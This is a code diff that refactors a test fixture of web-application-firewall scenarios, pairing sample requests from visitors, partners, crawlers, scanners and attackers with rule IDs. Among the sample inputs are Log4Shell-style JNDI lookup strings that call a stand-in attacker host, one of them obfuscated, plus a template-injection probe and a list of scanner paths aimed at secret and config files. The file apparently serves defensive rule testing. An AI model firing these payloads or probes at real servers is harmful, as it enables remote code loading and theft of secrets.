@@ -63,166 +63,116 @@ const INJECTIONS = [
   "{{7*191}}",
   "${jndi:ldap://198.51.100.77/o}",
 ];
-const PROBES = ["/.git/config", "/.env", "/wp-login.php", "/phpmyadmin/", "/backup.sql", "/server-status"];
-const MORE_PROBES = ["/admin/config.php", "/cgi-bin/test.cgi", "/actuator/env", "/vendor/.htaccess", "/old/"];
+const PROBES =
+  "/.git/config /.env /wp-login.php /phpmyadmin/ /backup.sql /server-status /admin/config.php /cgi-bin/test.cgi /actuator/env /vendor/.htaccess /old/".split(
+    " ",
+  );
+const SEARCHES = [
+  '"wool socks" -cotton',
+  "java database (jdbc)",
+  "union jack t-shirt",
+  "table lamp; drop shade",
+  "a or b",
+];
+const CONSENTS = [
+  "{v:'4',necessary:true,statistics:false,method:'explicit',stamp:'k8s/Aq0='}",
+  '{"v":2,"necessary":true,"marketing":false,"at":"2026-11-02T10:11:12Z"}',
+];
+const QUERIES = [
+  "query Cart($id: ID!) { cart(id: $id) { lines { sku qty price { amount } } } }",
+  "mutation Add($sku: String!) { add(sku: $sku) { lines { sku qty } } }",
+];
+const LANDINGS = ["https://partner.example/winter", "https://www.brand.example/shop?utm_source=mail"];
+const FILTERS = ["color in ('red','blue')", "(price>=10) and (stock>0)"];
+const LOOKUPS = ["${jndi:ldap://198.51.100.77/o}", "${${lower:j}ndi:dns://x.evil.example/a}"];
+const CRAWLER = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)";
+
+type Rules = Story["rules"];
+const on = (key: string, ...ruleIds: readonly string[]): Rules => ruleIds.map((ruleId) => [ruleId, key]);
+
+function story(
+  request: Pick<Story, "sender" | "method" | "paths"> & Partial<Story>,
+  rules: Rules,
+  texts: readonly string[],
+): Story {
+  return { ...request, rules, texts };
+}
+
+const from = (sender: Story["sender"], method: string, ...paths: readonly string[]) => ({
+  sender,
+  method,
+  paths,
+});
+const JSON_BODY = { contentType: "application/json" };
 
 /** Rules that match legitimate requests, clients that repeat, crawlers, scanners and attacks. */
 export const STORIES = {
-  form: {
-    sender: "visitor",
-    method: "POST",
-    paths: ["/products/{n}/reviews"],
-    rules: [["942440", "ARGS:title"]],
-    texts: PROSE,
-  },
-  "rich-text": {
-    sender: "visitor",
-    method: "POST",
-    paths: ["/forum/topics/{n}/posts"],
-    rules: [
-      ["941320", "ARGS:content"],
-      ["942430", "ARGS:content"],
-      ["942130", "ARGS:content"],
-    ],
-    texts: RICH_TEXT,
-  },
-  search: {
-    sender: "visitor",
-    method: "GET",
-    paths: ["/search"],
-    rules: [["942110", "ARGS:q"]],
-    texts: [
-      '"wool socks" -cotton',
-      "java database (jdbc)",
-      "union jack t-shirt",
-      "table lamp; drop shade",
-      "a or b",
-    ],
-  },
-  cookie: {
-    sender: "visitor",
-    method: "GET",
-    paths: SHOP,
-    rules: [
-      ["942260", "REQUEST_COOKIES:consent"],
-      ["942370", "REQUEST_COOKIES:consent"],
-    ],
-    texts: [
-      "{v:'4',necessary:true,statistics:false,method:'explicit',stamp:'k8s/Aq0='}",
-      '{"v":2,"necessary":true,"marketing":false,"at":"2026-11-02T10:11:12Z"}',
-    ],
-  },
-  upload: {
-    sender: "visitor",
-    method: "POST",
-    paths: ["/account/{n}/documents"],
-    rules: [["920120", "FILES:file"]],
-    contentType: "multipart/form-data; boundary=----form7f3a",
-    texts: ["offer (2) v;3=signed.pdf", "John's scan; page=1.jpg", 'plan "final".docx'],
-  },
-  api: {
-    sender: "app",
-    agent: "ShopApp/5.2.1 (iPhone; iOS 26.1)",
-    method: "POST",
-    paths: ["/graphql"],
-    rules: [
-      ["942430", "ARGS:query"],
-      ["932100", "ARGS:query"],
-    ],
-    contentType: "application/json",
-    texts: [
-      "query Cart($id: ID!) { cart(id: $id) { lines { sku qty price { amount } } } }",
-      "mutation Add($sku: String!) { add(sku: $sku) { lines { sku qty } } }",
-    ],
-  },
-  partner: {
-    sender: "partner",
-    agent: "python-requests/2.32.3",
-    method: "POST",
-    paths: ["/b2b/orders", "/b2b/orders/{n}"],
-    rules: [["913101", "REQUEST_HEADERS:User-Agent"]],
-    contentType: "application/json",
-    texts: ["python-requests"],
-  },
-  "back-office": {
-    sender: "staff",
-    method: "POST",
-    paths: ["/admin/articles/{n}/edit"],
-    rules: [
-      ["941320", "ARGS:body"],
-      ["942430", "ARGS:body"],
-    ],
-    texts: RICH_TEXT,
-  },
-  campaign: {
-    sender: "guest",
-    method: "GET",
-    paths: ["/l/{s}"],
-    rules: [["931130", "ARGS:url"]],
-    texts: ["https://partner.example/winter", "https://www.brand.example/shop?utm_source=mail"],
-  },
-  repeat: {
-    sender: "guest",
-    method: "GET",
-    paths: ["/feed/export"],
-    rules: [["942440", "ARGS:since"]],
-    texts: ["2026-11-01 -- 2026-11-30"],
-  },
-  crawler: {
-    sender: "machine",
-    agent: "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
-    method: "GET",
-    paths: SHOP,
-    rules: [["942260", "ARGS:filter"]],
-    texts: ["color in ('red','blue')", "(price>=10) and (stock>0)"],
-  },
-  probe: {
-    sender: "machine",
-    agent: "Mozilla/5.0 zgrab/0.x",
-    method: "GET",
-    paths: [...PROBES, ...MORE_PROBES],
-    rules: [
-      ["930130", "REQUEST_FILENAME"],
-      ["913100", "REQUEST_HEADERS:User-Agent"],
-    ],
-    texts: ["zgrab"],
-  },
-  exploit: {
-    sender: "machine",
-    method: "POST",
-    paths: ["/products/{n}/reviews"],
-    rules: [["944150", "ARGS:title"]],
-    texts: ["${jndi:ldap://198.51.100.77/o}", "${${lower:j}ndi:dns://x.evil.example/a}"],
-  },
-  injection: {
-    sender: "machine",
-    method: "GET",
-    paths: ["/search"],
-    rules: [
-      ["942100", "ARGS:q"],
-      ["942190", "ARGS:q"],
-    ],
-    texts: INJECTIONS.slice(0, 5),
-  },
-  stuffing: {
-    sender: "machine",
-    method: "POST",
-    paths: ["/account/login"],
-    rules: [["942130", "ARGS:password"]],
-    texts: PASSWORDS,
-  },
-  "deep-scan": {
-    sender: "machine",
-    method: "GET",
-    paths: [...SHOP, "/search", "/account/login", "/products/{n}/reviews", "/api/v1/orders"],
-    rules: [
+  form: story(from("visitor", "POST", "/products/{n}/reviews"), on("ARGS:title", "942440"), PROSE),
+  "rich-text": story(
+    from("visitor", "POST", "/forum/topics/{n}/posts"),
+    on("ARGS:content", "941320", "942430", "942130"),
+    RICH_TEXT,
+  ),
+  search: story(from("visitor", "GET", "/search"), on("ARGS:q", "942110"), SEARCHES),
+  cookie: story(from("visitor", "GET", ...SHOP), on("REQUEST_COOKIES:consent", "942260", "942370"), CONSENTS),
+  upload: story(
+    {
+      ...from("visitor", "POST", "/account/{n}/documents"),
+      contentType: "multipart/form-data; boundary=----form7f3a",
+    },
+    on("FILES:file", "920120"),
+    ["offer (2) v;3=signed.pdf", "John's scan; page=1.jpg", 'plan "final".docx'],
+  ),
+  api: story(
+    { ...from("app", "POST", "/graphql"), agent: "ShopApp/5.2.1 (iPhone; iOS 26.1)", ...JSON_BODY },
+    on("ARGS:query", "942430", "932100"),
+    QUERIES,
+  ),
+  partner: story(
+    {
+      ...from("partner", "POST", "/b2b/orders", "/b2b/orders/{n}"),
+      agent: "python-requests/2.32.3",
+      ...JSON_BODY,
+    },
+    on("REQUEST_HEADERS:User-Agent", "913101"),
+    ["python-requests"],
+  ),
+  "back-office": story(
+    from("staff", "POST", "/admin/articles/{n}/edit"),
+    on("ARGS:body", "941320", "942430"),
+    RICH_TEXT,
+  ),
+  campaign: story(from("guest", "GET", "/l/{s}"), on("ARGS:url", "931130"), LANDINGS),
+  repeat: story(from("guest", "GET", "/feed/export"), on("ARGS:since", "942440"), [
+    "2026-11-01 -- 2026-11-30",
+  ]),
+  crawler: story(
+    { ...from("machine", "GET", ...SHOP), agent: CRAWLER },
+    on("ARGS:filter", "942260"),
+    FILTERS,
+  ),
+  probe: story(
+    { ...from("machine", "GET", ...PROBES), agent: "Mozilla/5.0 zgrab/0.x" },
+    [...on("REQUEST_FILENAME", "930130"), ...on("REQUEST_HEADERS:User-Agent", "913100")],
+    ["zgrab"],
+  ),
+  exploit: story(from("machine", "POST", "/products/{n}/reviews"), on("ARGS:title", "944150"), LOOKUPS),
+  injection: story(
+    from("machine", "GET", "/search"),
+    on("ARGS:q", "942100", "942190"),
+    INJECTIONS.slice(0, 5),
+  ),
+  stuffing: story(from("machine", "POST", "/account/login"), on("ARGS:password", "942130"), PASSWORDS),
+  "deep-scan": story(
+    from("machine", "GET", ...SHOP, "/search", "/account/login", "/products/{n}/reviews", "/api/v1/orders"),
+    [
       ["942100", "ARGS:id"],
       ["941100", "ARGS:q"],
       ["930100", "ARGS:file"],
       ["932100", "ARGS:url"],
     ],
-    texts: INJECTIONS,
-  },
-} as const satisfies Record<string, Story>;
+    INJECTIONS,
+  ),
+} satisfies Record<string, Story>;
 
 export type StoryName = keyof typeof STORIES;
